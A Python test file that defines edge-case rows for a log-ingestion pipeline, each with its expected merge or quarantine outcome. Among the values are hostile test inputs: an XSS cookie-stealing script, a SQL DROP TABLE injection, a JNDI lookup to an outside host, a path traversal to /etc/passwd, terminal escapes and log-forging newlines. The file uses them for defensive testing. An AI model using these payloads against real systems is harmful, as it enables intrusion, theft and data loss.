"""Shapes of rows: good files with values at and beyond the edges of what a request can be."""

from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pyarrow as pa

from tests.builders import T0
from tests.faults.shape import (
    BAD_BYTES,
    BAD_STATUS,
    FUTURE,
    NO_ID,
    NO_IP,
    NO_STATUS,
    NO_TIME,
    PAST,
    UNPARSABLE,
    Outcome,
    Shape,
    columns,
    edited,
    line,
    merged,
    ndjson,
    parquet,
    quarantined,
    row,
)

LEAP = datetime(2016, 12, 31, 23, 59, 59, 999_999, tzinfo=UTC)
HUGE = 100_000


def at(text: str) -> str:
    """A line with this time."""
    return edited(1, "timestamp", f'"{text}"')


def micros(count: int) -> pa.Array:
    """A time so many microseconds after 1970, which Python may not be able to hold."""
    return pa.array([count], pa.int64()).cast(pa.timestamp("us", "UTC"))


def agent(text: str) -> tuple[Any, Outcome]:
    """A file with this agent, which is merged as it is."""
    return parquet(row(1, agent=text)), merged(1, agent=text)


def value(**fields: Any) -> tuple[Any, Outcome]:
    """A file of one row with these values, which is merged as it is."""
    return parquet(row(1, **fields)), merged(1, **fields)


def two_files(landing: Path, shape: str) -> list[Path]:
    return parquet(row(1))(landing, shape) + ndjson(line(1))(landing, shape)


VALUES = [
    Shape("time-1970", "A request of 1970: no clock was set.", parquet(row(1, timestamp=datetime(1970, 1, 1, tzinfo=UTC))), quarantined(1, PAST)),
    Shape("time-1969", "A request before 1970.", ndjson(at("1969-12-31T23:59:59Z")), quarantined(1, PAST)),
    Shape("time-1989", "The last moment before the Web.", ndjson(at("1989-12-31T23:59:59.999999Z")), quarantined(1, PAST)),
    Shape("time-1990", "The first moment that is taken.", ndjson(at("1990-01-01T00:00:00Z")), merged(1, day=date(1990, 1, 1))),
    Shape("time-year-1", "A request of the year 1.", parquet(row(1, timestamp=datetime(1, 1, 1, tzinfo=UTC))), quarantined(1, PAST)),
    Shape("time-1582", "A day that the calendar left out.", ndjson(at("1582-10-10T00:00:00Z")), quarantined(1, PAST)),
    Shape("time-before-christ", "A request of the year -44.", ndjson(at("-0044-03-15T00:00:00Z")), quarantined(1, UNPARSABLE)),
    Shape("time-2099", "A request of 2099.", parquet(row(1, timestamp=datetime(2099, 1, 1, tzinfo=UTC))), quarantined(1, FUTURE)),
    Shape("time-2099-no-arrival", "A request of 2099 that does not say when it was ingested.",
          parquet(row(1, timestamp=datetime(2099, 1, 1, tzinfo=UTC), ingested_at=None)), quarantined(1, FUTURE)),
    Shape("time-2300-both", "Request and arrival in 2300.",
          parquet(row(1, timestamp=datetime(2300, 1, 1, tzinfo=UTC), ingested_at=datetime(2300, 1, 1, tzinfo=UTC))), quarantined(1, FUTURE)),
    Shape("time-tolerance", "Ahead of its arrival by a day, which is allowed, and by a microsecond more.",
          parquet(row(1, timestamp=T0 + timedelta(days=1)), row(2, timestamp=T0 + timedelta(days=1, microseconds=1))),
          merged(1, day=date(2024, 5, 18)) | quarantined(2, FUTURE)),
    Shape("time-9999", "The end of the year 9999, in a zone where it is 10000 in UTC.", ndjson(at("9999-12-31T23:59:59-18:00")), quarantined(1, FUTURE)),
    Shape("time-int64-last", "The last microsecond that 64 bits can hold: the year 294247.", columns(timestamp=micros(2**63 - 1)), quarantined(1, FUTURE)),
    Shape("time-int64-first", "The first one: the year -290308.", columns(timestamp=micros(-(2**63))), quarantined(1, PAST)),
    Shape("time-int64-no-id", "The last one, in a row without an id.", columns(timestamp=micros(2**63 - 1), event_id=pa.nulls(1, pa.string())),
          quarantined(None, NO_ID, FUTURE)),
    Shape("time-leap-second", "A leap second, which no clock here has.", ndjson(at("2016-12-31T23:59:60Z")), quarantined(1, UNPARSABLE)),
    Shape("time-before-leap-second", "The last microsecond before a leap second.", parquet(row(1, timestamp=LEAP)), merged(1, day=date(2016, 12, 31), timestamp=LEAP)),
    Shape("time-dst-gap", "A local time in the hour that summer time leaves out: read as UTC, which has no gap.",
          ndjson(at("2024-03-31T02:30:00")), merged(1, day=date(2024, 3, 31), timestamp=datetime(2024, 3, 31, 2, 30, tzinfo=UTC))),
    Shape("time-dst-gap-zone", "The same with a zone's name: read as an hour later.",
          ndjson(at("2024-03-31T02:30:00 Europe/Berlin")), merged(1, day=date(2024, 3, 31), timestamp=datetime(2024, 3, 31, 1, 30, tzinfo=UTC))),
    Shape("time-offset", "A time at whose offset it is another day.", ndjson(at("2024-05-18T01:00:00+02:00")), merged(1, timestamp=datetime(2024, 5, 17, 23, tzinfo=UTC))),
    Shape("time-nanoseconds", "Nanoseconds: cut to microseconds.", ndjson(at("2024-05-17T10:05:03.123456789Z")), merged(1, timestamp=T0.replace(microsecond=123456))),
    Shape("time-without-day", "A time without a day, which Spark would take for one of today.", ndjson(at("10:05:03")), quarantined(1, UNPARSABLE)),
    Shape("time-day-only", "A day without a time: its midnight.", ndjson(at("2024-05-17")), merged(1, timestamp=datetime(2024, 5, 17, tzinfo=UTC))),
    Shape("time-epoch", "Seconds since 1970 in place of a time.", ndjson(edited(1, "timestamp", "1715940303")), quarantined(1, UNPARSABLE)),
    Shape("time-30-february", "The 30th of February.", ndjson(at("2024-02-30T00:00:00Z")), quarantined(1, UNPARSABLE)),
    Shape("time-24-oclock", "24 o'clock.", ndjson(at("2024-05-17T24:00:00Z")), quarantined(1, UNPARSABLE)),
    Shape("time-word", "A word in place of a time.", ndjson(at("now")), quarantined(1, UNPARSABLE)),
    Shape("time-null", "No time.", parquet(row(1, timestamp=None)), quarantined(1, NO_TIME)),
    Shape("status-99", "Statuses beside the range.", parquet(row(1, status=99), row(2, status=100), row(3, status=599), row(4, status=600)),
          merged(2, 3) | quarantined(1, BAD_STATUS) | quarantined(4, BAD_STATUS)),
    Shape("status-extremes", "Statuses of all bits.", parquet(row(1, status=-(2**31)), row(2, status=2**31 - 1), row(3, status=0)),
          quarantined(1, BAD_STATUS) | quarantined(2, BAD_STATUS) | quarantined(3, BAD_STATUS)),
    Shape("status-null", "No status.", parquet(row(1, status=None)), quarantined(1, NO_STATUS)),
    Shape("bytes-negative", "Bytes below zero.", parquet(row(1, bytes=-1), row(2, bytes=0)), merged(2, bytes=0) | quarantined(1, BAD_BYTES)),
    Shape("bytes-huge", "A petabyte, which is allowed, and one byte more.", parquet(row(1, bytes=2**50), row(2, bytes=2**50 + 1)), merged(1) | quarantined(2, BAD_BYTES)),
    Shape("bytes-int64", "The largest number of bytes, whose sum would overflow.", parquet(row(1, bytes=2**63 - 1), row(2, bytes=2**63 - 1)),
          quarantined(1, BAD_BYTES) | quarantined(2, BAD_BYTES)),
    Shape("ip-out-of-range", "An IP that is none: kept, for host names stand there too.", *value(ip="999.999.999.999")),
    Shape("ip-host-name", "A host name.", *value(ip="host.example.org")),
    Shape("ip-zone", "IPv6 with a zone.", *value(ip="fe80::1%eth0")),
    Shape("ip-long", "An IP of 100 kB.", *value(ip="1" * HUGE)),
    Shape("ip-dash", "No IP, as logs write it.", parquet(row(1, ip="-"), row(2, ip="  "), row(3, ip=None)), quarantined(1, NO_IP) | quarantined(2, NO_IP) | quarantined(3, NO_IP)),
    Shape("agent-long", "An agent of 100 kB.", *agent("x" * HUGE)),
    Shape("agent-script", "An agent that is a script.", *agent("<script>alert(document.cookie)</script>")),
    Shape("agent-ansi", "An agent with escape sequences of a terminal.", *agent("\x1b[2J\x1b]0;owned\x07\x9b31m")),
    Shape("agent-newlines", "An agent with newlines, which would forge lines of a log.", *agent("a\r\n2024-05-17 INFO merge: all is well\n")),
    Shape("agent-right-to-left", "An agent with right-to-left marks.", *agent("\u202eexe.fdp\u2066\u200f")),
    Shape("agent-nul", "An agent with a NUL.", *agent("a\0b")),
    Shape("agent-sql", "An agent that is SQL.", *agent("'); DROP TABLE merged; --")),
    Shape("agent-template", "An agent that is a template for a logger or a formatter.", *agent("${jndi:ldap://192.0.2.1/a} {0} %s %n")),
    Shape("agent-formula", "An agent that is a spreadsheet's formula.", *agent("=HYPERLINK(A1)")),
    Shape("agent-markup", "An agent in the markup of our own terminal output.", *agent("[bold red]x[/bold red] :skull:")),
    Shape("agent-noncharacters", "Characters that Unicode has none at, and a replaced one.", *agent("\uffff\U0010ffff\ufffd")),
    Shape("agent-slow", "An agent made to keep a regular expression busy.", *agent("Mozilla/5.0 (" + "a" * 50_000 + ";" * 50_000)),
    Shape("agent-dash", "No agent, as logs write it, and a blank one.", parquet(row(1, agent="-"), row(2, agent=" ")), merged(1, 2, agent=None)),
    Shape("path-long", "A path of a megabyte.", *value(path="/" + "a" * 1_000_000)),
    Shape("path-traversal", "A path that climbs out of a folder.", *value(path="/../../etc/passwd", query="../" * 50)),
    Shape("method-odd", "A method that is none.", *value(method="\x16\x03\x01", protocol="x")),
    Shape("referer-script", "A referer that is a script.", *value(referer="javascript:alert(1)")),
    Shape("site-path", "A site that is a path.", *value(site="../../other")),
    Shape("source-newline", "A source with a newline and an escape sequence.", *value(source="a\nb\x1b[2J", source_offset=-1)),
    Shape("id-null", "Rows without an id, two of them alike: none may be taken for another.", parquet(row(None), row(None), row(None, ip="192.0.2.2")),
          quarantined(None, NO_ID) | quarantined(None, NO_ID) | quarantined(None, NO_ID)),
    Shape("id-empty", "Blank ids.", ndjson(line(1).replace("@1", ""), line(2).replace("@2", " ")), quarantined(None, NO_ID) | quarantined(None, NO_ID)),
    Shape("id-again", "A row twice in one file.", parquet(row(1), row(1), row(2)), Outcome(dict.fromkeys((1, 2), T0.date()), duplicates=1)),
    Shape("id-again-elsewhere", "A row in a Parquet file, and again in NDJSON.", two_files, Outcome({1: T0.date()}, duplicates=1)),
    Shape("id-again-rejected", "A rejected row twice.", parquet(row(1, status=0), row(1, status=0)), Outcome(quarantined=((1, (BAD_STATUS,)),), duplicates=1)),
    Shape("two-reasons", "A row that breaks two rules.", parquet(row(1, status=0, bytes=-1)), quarantined(1, BAD_STATUS, BAD_BYTES)),
]  # fmt: skip
